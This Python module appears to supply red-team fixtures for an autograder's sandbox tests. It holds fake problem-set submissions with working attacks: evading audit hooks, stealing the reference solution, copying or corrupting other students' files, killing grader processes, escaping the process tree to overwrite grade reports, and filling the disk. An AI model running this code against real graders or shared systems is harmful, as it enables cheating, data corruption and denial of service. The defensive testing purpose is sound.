"""The red-team suite's submissions (issue 13), written as source text: each one is a ps1 submission whose graded
functions are correct except where the attack lives, so its exact score says whether the attack worked.

Imported by test_redteam.py only (pytest does not collect it: no ``test_`` prefix)."""
from __future__ import annotations

import textwrap

from autograder.tests.reference_ps1 import COS, CROP, HEAD, INFO, KNN, NT, NTL, ROT

# the same loss, wrong: the diagonal is not masked (scores 10 of 12)
NT_WRONG = '''def nt_xent(z1, z2, temperature=0.5):
    n = z1.shape[0]
    z = F.normalize(torch.cat([z1, z2]), dim=1)
    return F.cross_entropy(z @ z.T / temperature, torch.cat([torch.arange(n, 2 * n), torch.arange(n)]))
'''

# helpers an attacker would write: run a program without any audit event, find the repository and the grader
TOOLS = '''
import os, sys, glob, re, time, signal


def _run(argv, seconds=2.0):
    """Run a program through _posixsubprocess.fork_exec (no audit event); its stdout, or b"" if it cannot run."""
    import _posixsubprocess
    try:
        r, w = os.pipe()
        er, ew = os.pipe()
        exe = [a.encode() if isinstance(a, str) else a for a in argv]
        pid = _posixsubprocess.fork_exec(exe, [exe[0]], True, (w, ew), None, None, -1, -1, -1, w, -1, -1, er, ew,
                                         True, False, 0, None, None, None, -1, None, False)
        os.close(w)
        os.close(ew)
    except Exception:
        return b""
    out, end = b"", time.time() + seconds
    os.set_blocking(r, False)
    while time.time() < end and len(out) < 10_000_000:
        try:
            chunk = os.read(r, 65536)
        except BlockingIOError:
            time.sleep(0.01)
            continue
        except OSError:
            break
        if not chunk:
            break
        out += chunk
    return out


def _roots():
    """Where the repository might be: the grader's cwd (/proc/PPID/cwd), the editable install's finder, the
    folder around the virtual environment, the usual places."""
    roots = []
    for pid in {os.getppid(), 1}:
        try:
            roots.append(os.readlink(f"/proc/{pid}/cwd"))
        except Exception:
            pass
    for finder in glob.glob(sys.prefix + "/lib/python3*/site-packages/__editable__*finder.py"):
        try:
            text = _read(finder).decode(errors="replace")
            roots += [os.path.dirname(p) for p in re.findall(r"'(/[^']+/ssl_course)'", text)]
        except Exception:
            pass
    roots += [os.path.dirname(sys.prefix), "/work/main", "/work/wt13", "/autograder/source"]
    return [r for r in dict.fromkeys(roots) if r]


def _read(path):
    """Read a file through torch's C++ file I/O (no audit event)."""
    size = os.stat(path).st_size
    return bytes(torch.from_file(path, shared=False, size=size, dtype=torch.uint8).tolist())


def _procs():
    """pid -> (ppid, command line) of every process it can see (through ps: no audit event)."""
    out = _run(["/bin/ps", "-eo", "pid=,ppid=,args="]) or _run(["/usr/bin/ps", "-eo", "pid=,ppid=,args="])
    table = {}
    for line in out.decode(errors="replace").splitlines():
        parts = line.split(None, 2)
        if len(parts) >= 2 and parts[0].isdigit() and parts[1].isdigit():
            table[int(parts[0])] = (int(parts[1]), parts[2] if len(parts) > 2 else "")
    return table


def _grader_and_classmates(token):
    """The grader (its command line carries the test's token) and the runners started under it. Only this
    test's processes are ever targeted, so a broken sandbox cannot hurt anything else on the machine."""
    table = _procs()
    graders = {p for p, (pp, a) in table.items() if token in a}

    def under_grader(p):
        for _ in range(5):
            p = table.get(p, (0, ""))[0]
            if p in graders:
                return True
        return False

    runners = {p for p, (pp, a) in table.items() if "runner.py" in a and under_grader(p)}
    return (graders | runners | {os.getppid()}) - {os.getpid(), 0, 1}
'''

STEAL = '''
def _reference_source():
    for root in _roots():
        path = root + "/ssl_course/losses.py"
        try:
            src = READ(path)
        except Exception:
            continue
        if src and b"def nt_xent" in src:
            return src.decode().replace("from .pretext import rotate_batch", "")
    return None


def nt_xent(z1, z2, temperature=0.5):
    src = _reference_source()
    if src is None:
        return torch.tensor(0.0, dtype=z1.dtype)  # the attack failed: a wrong value (nt_xent scores 0)
    ns = {}
    exec(src, ns)
    return ns["nt_xent"](z1, z2, temperature)
'''


def ps1(replace: dict | None = None, extra: str = "", doc: str = "") -> str:
    replace = replace or {}
    parts = [f'"""{doc}"""\n' if doc else "", HEAD, TOOLS if extra else "", extra]
    for name, src in (("rotate_batch", ROT), ("random_resized_crop", CROP), ("cosine_similarity_matrix", COS),
                      ("info_nce", INFO), ("nt_xent_loop", NTL), ("nt_xent", NT), ("knn_predict", KNN)):
        src = replace.get(name, src)
        if src:
            parts.append("\n\n" + src)
    return "".join(parts).rstrip() + "\n"


READERS = {
    "torch_from_file": "\n",
    "fork_exec_cat": '''
def _cat(path):
    out = _run(["/bin/cat", path]) or _run(["/usr/bin/cat", path])
    if not out:
        raise OSError("nothing read")
    return out
''',
    "open_after_audit_hook": '''
def _open_raw(path):
    fd = os.open(path, os.O_RDONLY)
    try:
        return os.read(fd, 1 << 20)
    finally:
        os.close(fd)
''',
}
READER_FUNCTION = {"torch_from_file": "_read", "fork_exec_cat": "_cat", "open_after_audit_hook": "_open_raw"}


def steal_with(route: str) -> str:
    extra = READERS[route] + STEAL.replace("READ(path)", f"{READER_FUNCTION[route]}(path)")
    return ps1({"nt_xent": ""}, extra=extra, doc=f"reads the reference ({route})")


# a classmate: look for other students' files and copy their nt_xent
COPY_CLASSMATE = '''
def _classmate_files():
    out = _run(["/usr/bin/find", "/tmp", "/proc/%d/cwd/" % os.getppid(), "-maxdepth", "7", "-path", "*redteam*",
                "-name", "victim*.py"])
    files = [f for f in out.decode(errors="replace").split("\\n") if f]
    files += [f for f in glob.glob("/tmp/**/victim*.py", recursive=True) if "redteam" in f][:50]
    return files


def nt_xent(z1, z2, temperature=0.5):
    for f in _classmate_files():
        try:
            src = _read(f).decode()
        except Exception:
            continue
        ns = {}
        try:
            exec(src, ns)
            return ns["nt_xent"](z1, z2, temperature)
        except Exception:
            continue
    return torch.tensor(0.0, dtype=z1.dtype)
'''

DAMAGE_CLASSMATE = '''
def _damage():
    out = _run(["/usr/bin/find", "/tmp", "/proc/%d/cwd/" % os.getppid(), "-maxdepth", "7", "-path", "*redteam*",
                "-name", "zz_victim*"])
    files = [f for f in out.decode(errors="replace").split("\\n") if f]
    files += [f for f in glob.glob("/tmp/**/zz_victim*", recursive=True) if "redteam" in f][:50]
    for f in files:
        try:
            fd = os.open(f, os.O_WRONLY | os.O_TRUNC)
            os.write(fd, b"syntax error (")
            os.close(fd)
        except Exception:
            pass
        _run(["/bin/sh", "-c", 'printf "syntax error (" > "$0"', f])


def rotate_batch(images):
    _damage()
    rotated = torch.cat([torch.rot90(images, k, dims=(2, 3)) for k in range(4)])
    return rotated, torch.arange(4).repeat_interleave(images.shape[0])
'''

# signal the parent (and every process that looks like the grader or a classmate's child) through pidfds
SIGNAL_GRADER = '''
def _kill_everyone():
    for pid in _grader_and_classmates("TOKEN"):
        try:
            fd = os.pidfd_open(pid)
            signal.pidfd_send_signal(fd, signal.SIGKILL)
        except Exception:
            pass


def rotate_batch(images):
    _kill_everyone()
    rotated = torch.cat([torch.rot90(images, k, dims=(2, 3)) for k in range(4)])
    return rotated, torch.arange(4).repeat_interleave(images.shape[0])
'''

# leave the process tree (setsid + double fork through a shell), wait for the grader to exit, then rewrite reports
ESCAPE = '''
MARK = "redteam-escape-marker-MARKER"


def _escape():
    script = ('sleep 6; for f in $(find / -xdev -path "*redteam*" \\( -name "*.json" -o -name "grades.csv" \\) '
              '2>/dev/null); do echo hacked > "$f"; done')
    _run(["/usr/bin/setsid", "-f", "/bin/sh", "-c", script, MARK], 0.3)


def rotate_batch(images):
    _escape()
    rotated = torch.cat([torch.rot90(images, k, dims=(2, 3)) for k in range(4)])
    return rotated, torch.arange(4).repeat_interleave(images.shape[0])
'''

# fill the disk: as much as it can in /tmp and the working folder, then answer correctly
FILL_TMP = '''
def rotate_batch(images):
    block = b"x" * (1 << 20)
    written = 0
    for folder in ("/tmp", os.getcwd()):
        for i in range(400):
            try:
                with open(f"{folder}/fill{i}", "wb") as f:
                    for _ in range(4):
                        f.write(block)
                        written += len(block)
            except OSError:
                break
    rotated = torch.cat([torch.rot90(images, k, dims=(2, 3)) for k in range(4)])
    return rotated, torch.arange(4).repeat_interleave(images.shape[0])
'''

# honest code the old extractor dropped: module-level constants (annotated, tuple) and an alias
HONEST_CONSTANTS = '''
EPS = torch.finfo(torch.float32).tiny
SCALE: float = 1.0
LOW, HIGH = -1e9, 1e9
MASK_VALUE = float("-inf")


def nt_xent(z1, z2, temperature=0.5):
    n = z1.shape[0]
    z = torch.cat([z1, z2])
    z = z / z.norm(dim=1, keepdim=True).clamp_min(EPS)
    logits = (SCALE * z @ z.T / temperature).clamp(LOW, HIGH)
    logits = logits.masked_fill(torch.eye(2 * n, dtype=torch.bool), MASK_VALUE)
    return F.cross_entropy(logits, torch.cat([torch.arange(n, 2 * n), torch.arange(n)]))
'''

HONEST_ALIAS = '''
def simclr_loss(z1, z2, temperature=0.5):
    n = z1.shape[0]
    z = F.normalize(torch.cat([z1, z2]), dim=1)
    logits = (z @ z.T / temperature).masked_fill(torch.eye(2 * n, dtype=torch.bool), float("-inf"))
    return F.cross_entropy(logits, torch.cat([torch.arange(n, 2 * n), torch.arange(n)]))


nt_xent = simclr_loss
cosine_similarity_matrix = lambda a, b: F.normalize(a, dim=1) @ F.normalize(b, dim=1).T
'''


def dedent(s: str) -> str:
    return textwrap.dedent(s)
